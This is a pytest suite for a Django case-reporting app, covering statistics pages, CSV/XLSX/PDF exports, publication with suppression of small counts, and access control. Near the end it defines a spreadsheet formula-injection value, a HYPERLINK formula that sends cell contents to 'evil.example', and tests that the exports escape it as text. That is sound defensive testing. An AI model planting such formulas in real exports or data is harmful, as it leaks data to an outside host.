import csv
import datetime as dt
import io
import re

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from reporting.models import Publication
from tests.reporting.factories import LONDON, TO_REVIEW, case_on, step

AFTER_YEAR = dt.datetime(2027, 6, 1, 10, tzinfo=LONDON)
"""A day after financial year 2026 has ended, so it can be published."""


@pytest.fixture
def admin_client(client, users):
    client.force_login(users["hertsmere.admin"])
    return client


def test_officer_cannot_see_statistics(client, users):
    client.force_login(users["hertsmere.officer"])
    assert client.get(reverse("reporting:index")).status_code == 403


def test_reporting_page_shows_figures_year_on_year(admin_client, year_2026):
    response = admin_client.get(reverse("reporting:index"), {"year": 2026})
    assert response.status_code == 200
    html = response.content.decode()
    assert "2024-25" in html and "2025-26" in html and "2026-27" in html
    table = html[
        html.index('id="figures-table"') : html.index("</table>", html.index('id="figures-table"'))
    ]
    cells = re.findall(r"numeric\">(\d+)</td>", table)
    # applications row: 2024-25, 2025-26, 2026-27
    assert cells[:3] == ["0", "1", "6"]
    assert "<svg" in html and 'role="img"' in html and "<desc" in html


def test_date_range_needs_both_dates(admin_client, reference):
    response = admin_client.get(reverse("reporting:index"), {"date_from": "2026-04-01"})
    assert response.status_code == 200
    assert "Give both dates" in response.content.decode()


def test_csv_export(admin_client, year_2026):
    response = admin_client.get(reverse("reporting:export", args=["csv"]), {"year": 2026})
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "Applications received,0,1,6" in text
    assert "Times the threshold was not met,0,0,3" in text
    assert "Case reviews carried out,0,0,3" in text
    assert "Case reviews that resulted in recommendations,0,0,1" in text
    assert "Repeat applications,From a victim who had applied before,1" in text


def test_xlsx_export(admin_client, year_2026):
    response = admin_client.get(reverse("reporting:export", args=["xlsx"]), {"year": 2026})
    book = load_workbook(io.BytesIO(response.content))
    assert {"Figures", "Breakdown", "Timeliness"} <= set(book.sheetnames)
    rows = {r[0]: r[1:] for r in book["Figures"].iter_rows(values_only=True)}
    assert rows["Applications received"] == (0, 1, 6)
    assert rows["Times the threshold was not met"] == (0, 0, 3)


def test_publish_then_public_page_shows_only_published_years(
    client, admin_client, year_2026, users
):
    with time_machine.travel(AFTER_YEAR, tick=False):
        admin_client.force_login(users["hertsmere.admin"])  # a session from today has expired
        public = reverse("statistics:area", args=["hertsmere"])
        assert "has not published" in client.get(public).content.decode()
        response = admin_client.post(
            reverse("reporting:publish", args=["hertsmere"]),
            {"hertsmere-year": "2026", "confirmed": "yes"},
        )
        assert response.status_code == 302
        publication = Publication.objects.get(area__slug="hertsmere", year=2026)
        assert publication.figures == {
            "applications": 6,
            "threshold_not_met": 3,
            "reviews": 3,
            "reviews_with_recommendations": 1,
        }
        client.logout()
        html = client.get(public).content.decode()
    assert "2026-27" in html
    assert "2025-26" not in html  # not published
    # 6 is shown; 3, 3 and 1 are suppressed.
    table = html[html.index('id="published-figures"') : html.index("</table>")]
    assert table.count("fewer than 5") == 3
    assert ">6<" in html


def test_publishing_asks_for_confirmation_first(admin_client, year_2026, users):
    with time_machine.travel(AFTER_YEAR, tick=False):
        admin_client.force_login(users["hertsmere.admin"])
        url = reverse("reporting:publish", args=["hertsmere"])
        response = admin_client.post(url, {"hertsmere-year": "2026"})
        assert response.status_code == 200
        page = response.content.decode()
        assert "never taken down" in page and 'name="confirmed" value="yes"' in page
        assert not Publication.objects.exists()


def test_publishing_twice_needs_a_change_and_a_note(admin_client, year_2026, users):
    with time_machine.travel(AFTER_YEAR, tick=False):
        admin_client.force_login(users["hertsmere.admin"])  # a session from today has expired
        url = reverse("reporting:publish", args=["hertsmere"])
        admin_client.post(url, {"hertsmere-year": "2026", "confirmed": "yes"})
        response = admin_client.post(
            url, {"hertsmere-year": "2026", "confirmed": "yes"}, follow=True
        )
        assert "already published" in response.content.decode()
        assert Publication.objects.filter(year=2026).count() == 1
        # A late-recorded application changes the figures: a correction needs a note.
        case_on(
            area=year_2026["A"].area,
            by=users["hertsmere.officer"],
            received_on=dt.date(2027, 3, 30),
        )
    with time_machine.travel(AFTER_YEAR, tick=False):
        admin_client.force_login(users["hertsmere.admin"])  # a session from today has expired
        response = admin_client.post(
            url, {"hertsmere-year": "2026", "confirmed": "yes"}, follow=True
        )
        assert "say what changed" in response.content.decode()
        admin_client.post(
            url,
            {
                "hertsmere-year": "2026",
                "hertsmere-note": "Late application added",
                "confirmed": "yes",
            },
        )
    first, second = Publication.objects.filter(year=2026).order_by("published_at", "id")
    assert first.figures["applications"] == 6  # frozen
    assert second.figures["applications"] == 7 and second.supersedes == first


def test_cannot_publish_a_year_that_has_not_ended(admin_client, reference):
    response = admin_client.post(
        reverse("reporting:publish", args=["hertsmere"]),
        {"hertsmere-year": "2026", "confirmed": "yes"},
        follow=True,
    )
    assert not Publication.objects.exists()
    assert response.status_code == 200


def test_only_area_admin_publishes(client, users, reference):
    client.force_login(users["staffordshire.monitor"])
    assert client.get(reverse("reporting:publish_list")).status_code == 403
    client.force_login(users["hertsmere.admin"])
    response = client.post(
        reverse("reporting:publish", args=["luton"]), {"luton-year": "2025", "confirmed": "yes"}
    )
    assert response.status_code == 403


def test_publish_page_lists_areas(admin_client, reference):
    html = admin_client.get(reverse("reporting:publish_list")).content.decode()
    assert "Publish Hertsmere" in html and "Luton" not in html


def test_annual_report_pdf(admin_client, year_2026, users):
    with time_machine.travel(AFTER_YEAR, tick=False):
        admin_client.force_login(users["hertsmere.admin"])  # a session from today has expired
        admin_client.post(
            reverse("reporting:publish", args=["hertsmere"]),
            {"hertsmere-year": "2026", "confirmed": "yes"},
        )
        response = admin_client.get(reverse("reporting:annual_report", args=["hertsmere", 2026]))
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) == 1
    text = " ".join(reader.pages[0].extract_text().split())
    assert "Hertsmere" in text and "2026-27" in text
    assert "Applications received 6" in text
    assert "fewer than 5" in text
    assert "Draft" not in text


def test_public_index_lists_only_areas_that_published(client, reference):
    Publication.objects.create(
        area=reference["areas"]["merton"],
        year=2025,
        period_start=dt.date(2025, 4, 1),
        period_end=dt.date(2026, 3, 31),
        figures={
            "applications": 12,
            "threshold_not_met": 0,
            "reviews": 7,
            "reviews_with_recommendations": 5,
        },
        suppression_threshold=5,
    )
    html = client.get(reverse("statistics:index")).content.decode()
    assert "Merton" in html and "Hertsmere" not in html
    html = client.get(reverse("statistics:area", args=["merton"])).content.decode()
    table = html[html.index('id="published-figures"') : html.index("</table>")]
    assert ">12<" in table and ">0<" in table and ">7<" in table and "fewer than 5" not in table


def _make_cases(n, area, by):
    for i in range(n):
        case = case_on(area=area, by=by, received_on=dt.date(2026, 4, 1) + dt.timedelta(days=i))
        if i % 2:
            step(case, *TO_REVIEW, by=by, when=dt.datetime(2026, 10, 1, 12, tzinfo=LONDON))


def test_query_count_does_not_grow_with_cases(
    admin_client, reference, users, django_assert_max_num_queries
):
    area, by = reference["areas"]["hertsmere"], users["hertsmere.officer"]
    url = reverse("reporting:index")
    _make_cases(2, area, by)
    admin_client.get(url, {"year": 2026})  # warm caches (sessions, table checks)
    with django_assert_max_num_queries(30) as small:
        admin_client.get(url, {"year": 2026})
    _make_cases(12, area, by)
    with django_assert_max_num_queries(len(small.captured_queries)) as large:
        response = admin_client.get(url, {"year": 2026})
    assert "14" in response.content.decode()
    assert len(large.captured_queries) == len(small.captured_queries)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile_agency_name(year_2026):
    """An agency that incidents were reported to, renamed to a spreadsheet formula."""
    from cases.models import Incident
    from partnerships.models import Agency

    agency = Agency.objects.filter(areas__slug="hertsmere").first()
    Incident.objects.filter(case__area__slug="hertsmere").update(reported_to=agency)
    Agency.objects.filter(pk=agency.pk).update(name=HYPERLINK)
    return HYPERLINK


def test_csv_export_writes_a_formula_like_name_as_inert_text(admin_client, hostile_agency_name):
    response = admin_client.get(reverse("reporting:export", args=["csv"]), {"year": 2026})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    agency_rows = [r for r in rows if r and r[0] == "Agency reported to"]
    assert ["Agency reported to", "'" + HYPERLINK] in [r[:2] for r in agency_rows]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert ["Applications received", "0", "1", "6"] in rows  # figures are still numbers


def test_xlsx_export_writes_a_formula_like_name_as_a_string(admin_client, hostile_agency_name):
    response = admin_client.get(reverse("reporting:export", args=["xlsx"]), {"year": 2026})
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for row in book["Breakdown"].iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)
    figures = {r[0].value: r[1:] for r in book["Figures"].iter_rows()}
    assert [c.data_type for c in figures["Applications received"]] == ["n", "n", "n"]


def test_exports_keep_negative_numbers_as_numbers():
    from reporting import exports

    sheets = {"Figures": [["Figure", "Change"], ["Applications received", -3], ["-3", 2]]}
    rows = list(csv.reader(io.StringIO(exports.to_csv(sheets).decode("utf-8-sig"))))
    assert ["Applications received", "-3"] in rows
    assert ["'-3", "2"] in rows  # text is escaped, even when it looks like a number
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(sheets)))["Figures"]
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"


@pytest.mark.parametrize("page", ["reporting:index", "reporting:export"])
def test_a_period_beyond_the_statistics_is_explained_not_a_500(admin_client, page):
    url = reverse(page, kwargs={"fmt": "csv"} if page == "reporting:export" else {})
    response = admin_client.get(url, {"date_from": "0001-01-01", "date_to": "9999-12-31"})
    if page == "reporting:export":  # back to the page, which explains
        assert response.status_code == 302
        response = admin_client.get(response.url)
    html = response.content.decode()
    assert response.status_code == 200
    assert "The start date must be a real date between 1900 and 2100" in html
    assert "The end date must be a real date between 1900 and 2100" in html
    response = admin_client.get(url, {"date_from": "1999-01-01", "date_to": "2026-12-31"})
    if page == "reporting:index":
        assert "The start date must be between 1 April 2000 and 31 March 2100" in (
            response.content.decode()
        )


@pytest.mark.parametrize("year", ["0", "0000", "1999", "2100", "987654", "9" * 30])
def test_an_annual_report_for_an_impossible_year_is_not_found(admin_client, year):
    response = admin_client.get(f"/staff/reporting/annual-report/hertsmere/{year}.pdf")
    assert response.status_code == 404
